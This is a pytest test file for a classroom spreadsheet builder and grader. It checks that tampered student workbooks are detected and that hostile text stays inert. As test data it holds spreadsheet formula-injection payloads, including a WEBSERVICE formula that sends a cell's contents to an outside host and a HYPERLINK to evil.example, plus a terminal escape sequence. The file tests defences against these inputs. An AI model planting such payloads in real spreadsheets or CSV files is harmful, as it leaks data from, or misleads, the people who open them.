"""Hostile students and hostile text: grading from the teacher's record, text that stays
text, CSV cells that cannot become formulas, an atomic `class`, clean interrupts, race-free
writes and files that honour the umask."""

import csv
import json
import os
import signal
import threading
import time
from pathlib import Path

import numpy as np
import openpyxl
import pytest
from helpers.books import KINDS, fill
from helpers.cli import cli, one_line_error, start, terminate_once
from helpers.requires import requires_libreoffice
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from workbook_builder import api
from workbook_builder.book import files
from workbook_builder.engines.libreoffice import convert
from workbook_builder.sheet.kind import complete_inputs, make_params
from workbook_builder.sheet.names import find_name
from workbook_builder.sheet.request import make_spec
from workbook_builder.teaching import classroom

SIZES = ("--seq-len", "3", "--d-model", "2", "--d-k", "2")
PARAMS = {"seq_len": 3, "d_model": 2, "d_k": 2}
STEPS = ["WEIGHTS", "OUTPUT"]
FEW = settings(max_examples=25, deadline=None,
               suppress_health_check=[HealthCheck.function_scoped_fixture,
                                      HealthCheck.too_slow])


def write_roster(folder: Path, ids, name="roster.csv") -> Path:
    path = folder / name
    with path.open("w", newline="", encoding="utf-8") as handle:
        writer = csv.writer(handle)
        writer.writerow(["id", "name"])
        writer.writerows([student, f"Name {n}"] for n, student in enumerate(ids))
    return path


def make_class(tmp_path, ids, out=None, *extra):
    out = out or tmp_path / "class"
    ran = cli("class", "attention", "--roster", write_roster(tmp_path, ids), "--out", out,
              "--exercise", ",".join(STEPS), *SIZES, *extra)
    return ran, out


def answers_of(seed: int) -> dict:
    kind = KINDS["attention"]
    params = make_params(kind, PARAMS)
    return kind.reference(complete_inputs(kind, params, {}, seed), params)


def rows_of(path: Path) -> dict[str, dict]:
    return {Path(r["file"]).name: r for r in csv.DictReader(path.open(encoding="utf-8"))}


def about_cell(wb, key: str):
    ws = wb["About"]
    return next(ws.cell(r, 2) for r in range(1, ws.max_row + 1) if ws.cell(r, 1).value == key)


def set_about(path: Path, key: str, value) -> None:
    wb = openpyxl.load_workbook(path)
    about_cell(wb, key).value = value
    wb.save(path)


def set_block(path: Path, name: str, value: float) -> None:
    wb = openpyxl.load_workbook(path)
    where = find_name(wb, name, path)
    for i in range(where.shape[0]):
        for j in range(where.shape[1]):
            wb[where.sheet].cell(where.top + i, where.left + j).value = value
    wb.save(path)


# -- grading from the teacher's record ------------------------------------------------------

@pytest.fixture
def tampered(tmp_path):
    """A class of five; each returned file tampered with in one way (see the comments)."""
    ids = ["1001", "1002", "1003", "1004", "1005"]
    ran, out = make_class(tmp_path, ids)
    assert ran.returncode == 0, ran.stdout + ran.stderr
    manifest = {r["student"]: r for r in csv.DictReader((out / "manifest.csv").open())}
    returned = tmp_path / "returned"
    returned.mkdir()

    def exercise(student):
        return out / manifest[student]["file"]

    def target(student):
        return returned / manifest[student]["file"]

    # 1001: tolerance 1e9 and every answer cell 42
    fill(exercise("1001"), answers_of(int(manifest["1001"]["seed"])), STEPS, target("1001"),
         lambda s, i, j, v: 42.0)
    exercise_json = about_cell(openpyxl.load_workbook(target("1001")), "exercise").value
    set_about(target("1001"), "exercise",
              json.dumps({**json.loads(exercise_json), "tolerance": 1e9}))
    # 1002: X zeroed, then the answers for X = 0 typed: uniform weights, zero outputs
    fill(exercise("1002"), {"WEIGHTS": np.full((3, 3), 1 / 3), "OUTPUT": np.zeros((3, 2))},
         STEPS, target("1002"))
    set_block(target("1002"), "X", 0)
    # 1003: OUTPUT taken out of the step list, WEIGHTS answered right
    fill(exercise("1003"), answers_of(int(manifest["1003"]["seed"])), ["WEIGHTS"],
         target("1003"))
    set_about(target("1003"), "exercise", json.dumps(
        {"steps": ["WEIGHTS"], "tolerance": 0.001, "self_check": True}))
    # 1004: all right, but the About sheet says it is 1002's
    fill(exercise("1004"), answers_of(int(manifest["1004"]["seed"])), STEPS, target("1004"))
    set_about(target("1004"), "student", "1002")
    # 1005: all right, renamed by the course platform
    renamed = returned / "Name 4_8812_assignsubmission_file_homework.xlsx"
    fill(exercise("1005"), answers_of(int(manifest["1005"]["seed"])), STEPS, renamed)
    return out, returned


def test_tampered_files_graded_from_the_manifest_name_each_change(tampered, tmp_path):
    out, returned = tampered
    grades = tmp_path / "grades.csv"
    ran = cli("grade", returned, "--manifest", out / "manifest.json", "--out", grades)
    assert ran.returncode == 1, ran.stdout + ran.stderr  # files differ from the record
    rows = rows_of(grades)
    cheat = rows["attention_1001.xlsx"]
    assert (cheat["score"], cheat["problem"]) == ("0.0", "tolerance changed")
    zeroed = rows["attention_1002.xlsx"]
    assert zeroed["problem"] == "inputs edited"
    assert int(zeroed["correct"]) < 15
    short = rows["attention_1003.xlsx"]
    assert (short["WEIGHTS"], short["OUTPUT"], short["total"]) == ("9/9", "0/6", "15")
    assert short["problem"] == "step list changed"
    claims = rows["attention_1004.xlsx"]
    assert (claims["student"], claims["name"], claims["score"], claims["problem"]) == \
        ("1004", "Name 3", "100.0", "claims student 1002")
    renamed = rows["Name 4_8812_assignsubmission_file_homework.xlsx"]
    assert (renamed["student"], renamed["score"], renamed["problem"]) == ("1005", "100.0", "")
    assert {r["verified"] for r in rows.values()} == {"yes"}
    assert "claims student 1002" in ran.stderr and "tolerance changed" in ran.stderr
    assert "verified against the manifest, 4 file(s) differ" in ran.stdout


def test_without_a_manifest_the_report_says_nothing_was_verified(tampered, tmp_path):
    out, returned = tampered
    grades = tmp_path / "grades.csv"
    ran = cli("grade", returned, "--out", grades)
    # 1003's About lists one step fewer, so the blocks it states start one row higher
    # (the self-check table above them is shorter) than where they are: not gradable
    assert ran.returncode == 1, ran.stdout + ran.stderr
    rows = rows_of(grades)
    assert "the layout puts it at" in rows["attention_1003.xlsx"]["problem"]
    assert rows["attention_1001.xlsx"]["score"] == "100.0"  # what trusting the file gives
    assert rows["attention_1004.xlsx"]["student"] == "1002"
    assert {r["verified"] for r in rows.values()} == {"no (no manifest)"}
    assert "NOT VERIFIED" in ran.stdout


def test_a_copy_of_another_students_file_is_graded_against_the_owner_of_its_name(tmp_path):
    ran, out = make_class(tmp_path, ["a1", "b2"])
    assert ran.returncode == 0, ran.stderr
    returned = tmp_path / "returned"
    returned.mkdir()
    seed_b = json.loads((out / "manifest.json").read_text())["students"][1]["seed"]
    fill(out / "attention_b2.xlsx", answers_of(seed_b), STEPS, returned / "attention_a1.xlsx")
    set_about(returned / "attention_a1.xlsx", "student", "a1")
    grades = tmp_path / "grades.csv"
    cli("grade", returned, "--manifest", out, "--out", grades)
    row = rows_of(grades)["attention_a1.xlsx"]
    assert row["student"] == "a1"
    assert row["problem"] == "inputs edited; inputs are those of student b2"
    assert float(row["score"]) < 100


@requires_libreoffice
def test_a_renamed_file_saved_by_libreoffice_is_found_by_its_inputs(tmp_path):
    ran, out = make_class(tmp_path, ["a1", "b2"])
    assert ran.returncode == 0, ran.stderr
    saved = convert(out / "attention_b2.xlsx", "xlsx", tmp_path)
    renamed = saved.rename(tmp_path / "my homework.xlsx")
    grades = tmp_path / "grades.csv"
    ran = cli("grade", renamed, "--manifest", out, "--out", grades)
    assert ran.returncode == 0, ran.stdout + ran.stderr
    row = rows_of(grades)["my homework.xlsx"]
    assert (row["student"], row["problem"], row["verified"]) == ("b2", "", "yes")


@pytest.fixture(scope="module")
def answered(tmp_path_factory):
    """A class of one (a1) and its exercise answered right: the untampered baseline."""
    folder = tmp_path_factory.mktemp("answered")
    ran, out = make_class(folder, ["a1"])
    assert ran.returncode == 0, ran.stderr
    seed = json.loads((out / "manifest.json").read_text())["students"][0]["seed"]
    answered = fill(out / "attention_a1.xlsx", answers_of(seed), STEPS,
                    folder / "attention_a1.xlsx")
    return answered, api.read_record(out)


@pytest.mark.slow  # a class, then 25 tampered copies graded
@FEW
@given(tolerance=st.none() | st.floats(1e-9, 1e12),
       steps=st.none() | st.lists(st.sampled_from(["Q", "SCORES", "WEIGHTS", "OUTPUT"]),
                                  unique=True, max_size=4),
       student=st.none() | st.text(st.characters(codec="utf-8", exclude_categories=["Cc"]),
                                   min_size=1, max_size=20))
def test_any_about_tampering_is_named_and_changes_no_score(answered, tmp_path, tolerance,
                                                           steps, student):
    baseline, students = answered
    tampered = tmp_path / "attention_a1.xlsx"
    wb = openpyxl.load_workbook(baseline)
    exercise = json.loads(about_cell(wb, "exercise").value)
    if tolerance is not None:
        exercise["tolerance"] = tolerance
    if steps is not None:
        exercise["steps"] = steps
    about_cell(wb, "exercise").value = json.dumps(exercise)
    if student is not None:
        about_cell(wb, "student").value = student
    wb.save(tampered)
    grade = api.grade_file(tampered, None, students)
    assert (grade.student, grade.problem, grade.steps) == ("a1", "", {"WEIGHTS": (9, 9),
                                                                      "OUTPUT": (6, 6)})
    expected = []
    if student is not None and student != "a1":
        expected.append(f"claims student {student}")
    if steps is not None and steps != STEPS:
        expected.append("step list changed")
    if tolerance is not None and tolerance != 0.001:
        expected.append("tolerance changed")
    assert grade.changes == expected


def test_a_file_matching_no_student_is_not_graded(tmp_path):
    ran, out = make_class(tmp_path, ["a1"])
    assert ran.returncode == 0, ran.stderr
    other = tmp_path / "other.xlsx"
    api.build("attention", other, exercise="WEIGHTS", seed=99, **PARAMS)
    ran = cli("grade", other, "--manifest", out / "manifest.json")
    assert ran.returncode == 1
    assert "matches no student of the manifest" in ran.stderr


def test_a_bad_manifest_is_one_line(tmp_path):
    bad = tmp_path / "manifest.json"
    bad.write_text("{not json")
    book = tmp_path / "b.xlsx"
    api.build("attention", book, exercise="WEIGHTS", **PARAMS)
    assert "not a readable manifest" in one_line_error(cli("grade", book, "--manifest", bad))
    assert "is the manifest for people" in one_line_error(
        cli("grade", book, "--manifest", tmp_path / "manifest.csv"))


def test_grade_in_the_api_takes_the_manifest(tampered):
    out, returned = tampered
    grades = {Path(g.file).name: g for g in
              api.grade_all([returned], None, False, manifest=out / "manifest.json")}
    assert grades["attention_1001.xlsx"].changes == ["tolerance changed"]


def test_a_student_field_cannot_drive_the_terminal(tmp_path):
    ran, out = make_class(tmp_path, ["s1"])
    book = out / "attention_s1.xlsx"
    set_about(book, "student", "\x9b2J\rs1")  # CSI clear-screen, then back to column 0
    ran = cli("grade", book)
    assert ran.returncode == 0, ran.stderr
    assert "\x9b" not in ran.stdout and "\r" not in ran.stdout
    assert "\\x9b2J\\rs1" in ran.stdout


# -- grade DIR -------------------------------------------------------------------------------

def test_grade_dir_recurses_and_matches_xlsx_in_any_case(tmp_path):
    ran, out = make_class(tmp_path, ["a1", "b2", "c3"])
    assert ran.returncode == 0, ran.stderr
    returned = tmp_path / "download"
    for n, student in enumerate(["a1", "b2", "c3"]):
        folder = returned / f"Student {n}_{student}"
        folder.mkdir(parents=True)
        name = f"attention_{student}.xlsx" if n else f"ATTENTION_{student}.XLSX"
        (folder / name).write_bytes((out / f"attention_{student}.xlsx").read_bytes())
    (returned / "__MACOSX").mkdir()
    (returned / "__MACOSX" / "attention_a1.xlsx").write_bytes(b"resource fork")
    (returned / "Student 1_b2" / "attention_b2_KEY.xlsx").write_bytes(
        (out / "attention_b2_key.xlsx").read_bytes())
    ran = cli("grade", returned, "--manifest", out)
    assert ran.returncode == 0, ran.stdout + ran.stderr
    assert "found 3 workbook(s)" in ran.stdout and "graded 3 of 3 files" in ran.stdout
    assert {line.split()[0] for line in ran.stdout.splitlines()[1:4]} == {"a1", "b2", "c3"}


# -- text stays text -------------------------------------------------------------------------

HOSTILE = ['=WEBSERVICE("http://x/"&C8)', "=(((", "+1", "@x", "-2", "#N/A", "=1+1", "#REF!"]


def text_cells(path: Path):
    wb = openpyxl.load_workbook(path)
    return [(ws.title, c.coordinate, c.value, c.data_type) for ws in wb.worksheets
            for row in ws.iter_rows() for c in row if c.value is not None]


def test_hostile_tokens_are_text_in_every_label(tmp_path):
    tokens = HOSTILE[:3]
    book = tmp_path / "hostile.xlsx"
    ran = cli("build", "attention", "-o", book, *SIZES[2:], "--tokens", ",".join(tokens),
              "--exercise", "WEIGHTS", "--lang", "zh")
    assert ran.returncode == 0, ran.stderr
    plain = tmp_path / "plain.xlsx"
    cli("build", "attention", "-o", plain, *SIZES[2:], "--tokens", "a,b,c", "--exercise",
        "WEIGHTS", "--lang", "zh")
    cells = text_cells(book)
    assert sum(c[3] == "f" for c in cells) == sum(c[3] == "f" for c in text_cells(plain))
    for token in tokens:
        labels = [c for c in cells if c[2] == token]
        assert labels and all(c[3] == "s" for c in labels), token
    assert api.check(book).passed


@requires_libreoffice
def test_hostile_tokens_stay_text_after_libreoffice_recalculates(tmp_path):
    tokens = ['=WEBSERVICE("http://127.0.0.1:9/"&C8)', "=(((", "#N/A"]
    book = tmp_path / "hostile.xlsx"
    api.build("attention", book, tokens=tokens, d_model=2, d_k=2)
    saved = convert(book, "xlsx", tmp_path / "saved")
    wb = openpyxl.load_workbook(saved)
    where = find_name(wb, "X", saved)
    labels = [wb[where.sheet].cell(where.top + i, where.left - 1) for i in range(3)]
    assert [(c.value, c.data_type) for c in labels] == [(t, "s") for t in tokens]
    assert api.check(saved).passed


def test_hostile_roster_ids_are_text_and_csv_cells_are_neutralised(tmp_path):
    ids = ['=HYPERLINK("evil.example","click")', "+1", "@x", "-2"]
    ran, out = make_class(tmp_path, ids)
    assert ran.returncode == 0, ran.stderr
    record = json.loads((out / "manifest.json").read_text())["students"]
    assert [s["student"] for s in record] == ids
    for entry in record:
        for name in (entry["file"], entry["key_file"]):
            student = about_cell(openpyxl.load_workbook(out / name), "student")
            assert (student.value, student.data_type) == (entry["student"], "s")
    rows = list(csv.reader((out / "manifest.csv").open(encoding="utf-8")))
    assert [r[0] for r in rows[1:]] == ["'" + i for i in ids]
    grades = tmp_path / "grades.csv"
    cli("grade", out, "--manifest", out, "--out", grades)
    students = [r[0] for r in list(csv.reader(grades.open(encoding="utf-8")))[1:]]
    assert sorted(students) == sorted("'" + i for i in ids)


def test_csv_cells_starting_with_formula_characters_get_an_apostrophe(tmp_path):
    values = ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", "plain", "a=b", 5, -3.5]
    path = tmp_path / "out.csv"
    files.write_csv(path, ["h"] * len(values), [values], force=False)
    [_, row] = list(csv.reader(path.open(newline="", encoding="utf-8")))
    assert row == ["'=1+1", "'+1", "'-1", "'@SUM(A1)", "'\tx", "'\rx", "plain", "a=b", "5",
                   "-3.5"]


@pytest.mark.parametrize("bad", ["a\x00b", "tab\x01", "x\x1fy"])
def test_a_control_character_in_a_token_is_one_line(tmp_path, bad):
    book = tmp_path / "b.xlsx"
    line = one_line_error(cli("build", "attention", "-o", book, *SIZES[2:], "--tokens",
                              f"{bad},b,c"))
    assert "control character" in line
    assert not book.exists()


@pytest.mark.parametrize("bad, says", [("ok\x00id", "control character"),
                                       ("x" * 300, "too long for a file name"),
                                       ("a/b", "path separator"), ("a\\b", "path separator")])
def test_bad_roster_ids_are_refused_before_anything_is_written(tmp_path, bad, says):
    ran, out = make_class(tmp_path, ["s1", "s2", bad])  # the bad one last
    assert says in one_line_error(ran)
    assert not out.exists()
    assert sorted(p.name for p in tmp_path.iterdir()) == ["roster.csv"]


def test_a_roster_line_is_not_split_at_unicode_line_separators(tmp_path):
    ran, out = make_class(tmp_path, ["a\u2028b", "c\x85d"])  # str.splitlines splits both
    assert ran.returncode == 0, ran.stderr
    record = json.loads((out / "manifest.json").read_text())["students"]
    assert [s["student"] for s in record] == ["a\u2028b", "c\x85d"]


@FEW
@given(st.lists(st.text(min_size=1, max_size=12).filter(lambda t: t.strip() and "," not in t),
                min_size=2, max_size=2))
def test_any_token_is_written_as_the_same_text_or_refused(tmp_path, tokens):
    book = tmp_path / "t.xlsx"
    book.unlink(missing_ok=True)
    ran = cli("build", "attention", "-o", book, "--d-model", "1", "--d-k", "1",
              "--tokens", ",".join(tokens))
    assert ran.returncode in (0, 2), ran.stderr
    if ran.returncode == 2:
        one_line_error(ran)
        assert not book.exists()
        return
    labels = {c[2]: c[3] for c in text_cells(book) if c[2] in [t.strip() for t in tokens]}
    assert set(labels) == {t.strip() for t in tokens}
    assert set(labels.values()) == {"s"}


@pytest.mark.slow  # 25 classes
@FEW
@given(st.text(min_size=1, max_size=40).filter(str.strip))
def test_any_roster_id_is_written_as_text_or_refused(tmp_path, student):
    folder = tmp_path / f"run{time.monotonic_ns()}"
    folder.mkdir()
    ran = cli("class", "attention", "--roster", write_roster(folder, [student]), "--out",
              folder / "out", "--exercise", "WEIGHTS", "--seq-len", "2", "--d-model", "1",
              "--d-k", "1", "--no-self-check")
    assert ran.returncode in (0, 2), ran.stderr
    if ran.returncode == 2:
        one_line_error(ran)
        assert not (folder / "out").exists()
        return
    [entry] = json.loads((folder / "out" / "manifest.json").read_text())["students"]
    cell = about_cell(openpyxl.load_workbook(folder / "out" / entry["file"]), "student")
    assert (cell.value, cell.data_type) == (entry["student"], "s")


# -- atomic class ----------------------------------------------------------------------------

def leftovers(folder: Path) -> list[str]:
    return sorted(p.name for p in folder.iterdir() if "attnsheets" in p.name)


def failing_at_call(n: int, real, error: Exception):
    """`real`, except that its n-th call raises `error`."""
    calls = []

    def wrapper(*args, **kwargs):
        calls.append(1)
        if len(calls) == n:
            raise error
        return real(*args, **kwargs)

    return wrapper


def test_a_class_failing_midway_leaves_nothing_and_needs_no_force(tmp_path, monkeypatch):
    real = classroom.build_workbook
    monkeypatch.setattr(classroom, "build_workbook",  # the second student's exercise
                        failing_at_call(3, real, RuntimeError("disk on fire")))
    out = tmp_path / "deep" / "class"
    kind = KINDS["attention"]
    with pytest.raises(RuntimeError, match="disk on fire"):
        api.run_class(kind, make_params(kind, PARAMS), write_roster(tmp_path, ["a1", "b2"]),
                      out, make_spec("WEIGHTS", None, True))
    assert not (tmp_path / "deep").exists()
    monkeypatch.setattr(classroom, "build_workbook", real)
    ran, _ = make_class(tmp_path, ["a1", "b2"], out)
    assert ran.returncode == 0, ran.stderr
    assert sorted(p.name for p in out.iterdir()) == [
        "attention_a1.xlsx", "attention_a1_key.xlsx", "attention_b2.xlsx",
        "attention_b2_key.xlsx", "manifest.csv", "manifest.json"]
    assert leftovers(out.parent) == []


def test_a_forced_class_failing_while_moving_in_puts_the_old_files_back(tmp_path,
                                                                        monkeypatch):
    ran, out = make_class(tmp_path, ["a1", "b2"])
    assert ran.returncode == 0, ran.stderr
    (out / "notes.txt").write_text("mine")
    before = {p.name: p.read_bytes() for p in out.iterdir()}
    monkeypatch.setattr(classroom, "move_into_place",  # the fourth file moved in
                        failing_at_call(4, classroom.move_into_place, OSError("disk full")))
    ran, _ = make_class(tmp_path, ["a1", "b2"], out, "--seed", "7", "--force")
    assert ran.returncode == 2 and "disk full" in ran.stderr
    assert {p.name: p.read_bytes() for p in out.iterdir()} == before
    assert leftovers(tmp_path) == []


# -- interrupts ------------------------------------------------------------------------------





@pytest.mark.parametrize("signum, code, says", [(signal.SIGTERM, 143, "terminated"),
                                                (signal.SIGINT, 130, "interrupted")])
def test_a_signal_during_build_leaves_no_temporary_file(tmp_path, signum, code, says):
    out = tmp_path / "books"
    out.mkdir()
    process, _ = start(["build", "attention", "-o", out / "big.xlsx", "--seq-len", "40",
                        "--d-model", "16", "--d-k", "16"], tmp_path)
    got = terminate_once(process, lambda: any(out.glob(".attnsheets-*")), signum)
    assert (got[0], got[1].strip()) == (
        code, f"attnsheets: {says}; nothing was written ({out}/big.xlsx is as it was)")
    assert list(out.iterdir()) == []


# the CLI, its class pausing once the first workbook is in the staging folder: it touches
# the file named by its first argument and sleeps until a signal comes
PAUSED_AFTER_FIRST_STAGED = """
import pathlib, sys, time
from workbook_builder.cli.app import main
from workbook_builder.teaching import classroom
staged = classroom.store_values
def staged_then_paused(*args, **kwargs):
    staged(*args, **kwargs)
    pathlib.Path(sys.argv[1]).touch()
    time.sleep(600)
classroom.store_values = staged_then_paused
sys.exit(main(sys.argv[2:]))
"""


def test_sigterm_during_class_leaves_nothing(tmp_path):
    ready, out = tmp_path / "ready", tmp_path / "class"
    process, private = start(["class", "attention", "--roster", write_roster(tmp_path, ["a1"]),
                              "--out", out, "--exercise", "WEIGHTS", *SIZES], tmp_path,
                             program=("-c", PAUSED_AFTER_FIRST_STAGED, ready))
    staged = []

    def paused() -> bool:
        if not ready.exists():
            return False
        staged.extend(p.name for p in tmp_path.glob(".class.attnsheets-*/*.xlsx"))
        return True

    code, err = terminate_once(process, paused)
    assert (code, err.strip()) == (143, "attnsheets: terminated; nothing was written")
    assert "attention_a1.xlsx" in staged  # the signal came while the class was being staged
    assert not out.exists()
    assert list(tmp_path.glob(".class*.attnsheets-*")) == [], "staging folder left"
    assert list(private.iterdir()) == []


@requires_libreoffice
def test_sigterm_during_a_libreoffice_check_leaves_no_temporary_folder(tmp_path):
    book = tmp_path / "b.xlsx"
    api.build("attention", book, **PARAMS)
    process, private = start(["check", book, "--engine", "libreoffice", "--quiet"], tmp_path)
    # soffice is writing its profile when the signal comes
    code, err = terminate_once(
        process, lambda: len(list(private.glob("attnsheets-lo-*/user/*"))) > 1)
    assert code == 143, err
    assert list(private.iterdir()) == []


# -- race-free and umask ---------------------------------------------------------------------

def test_a_save_without_force_never_replaces_a_file_written_meanwhile(tmp_path):
    path = tmp_path / "b.xlsx"
    late = api.build("attention", **PARAMS)  # checked the path before it existed
    api.build("attention", path, seed=1, **PARAMS)
    first = path.read_bytes()
    with pytest.raises(api.AttnsheetsError, match="already exists"):
        files.save_atomic(late.workbook, path)
    assert path.read_bytes() == first
    assert leftovers(tmp_path) == []


def test_two_concurrent_builds_to_one_path_exactly_one_succeeds(tmp_path, monkeypatch):
    path = tmp_path / "b.xlsx"
    both_checked = threading.Barrier(2, timeout=60)
    real = files.finish_workbook

    def after_both_checked(*args):
        both_checked.wait()  # both have passed the check at the start
        return real(*args)

    monkeypatch.setattr(files, "finish_workbook", after_both_checked)
    outcomes = []

    def build(seed):
        try:
            api.build("attention", path, seed=seed, **PARAMS)
            outcomes.append("wrote")
        except api.AttnsheetsError as exc:
            outcomes.append(str(exc))

    threads = [threading.Thread(target=build, args=(seed,)) for seed in (1, 2)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert sorted(outcomes, key=len) == ["wrote", f"{path} already exists; pass --force to "
                                                   "replace it"]
    assert leftovers(tmp_path) == []


@pytest.mark.parametrize("umask, mode", [(0o022, 0o644), (0o077, 0o600), (0o002, 0o664)])
def test_files_honour_the_umask(tmp_path, umask, mode):
    before = os.umask(umask)
    try:
        api.build("attention", tmp_path / "b.xlsx", **PARAMS)
        ran, out = make_class(tmp_path, ["a1"])
        assert ran.returncode == 0, ran.stderr
        cli("grade", out, "--manifest", out, "--out", tmp_path / "grades.csv")
    finally:
        os.umask(before)
    written = [tmp_path / "b.xlsx", tmp_path / "grades.csv", *out.iterdir()]
    assert {p.name: p.stat().st_mode & 0o777 for p in written} == \
        {p.name: mode for p in written}
    assert out.stat().st_mode & 0o777 == 0o777 & ~umask
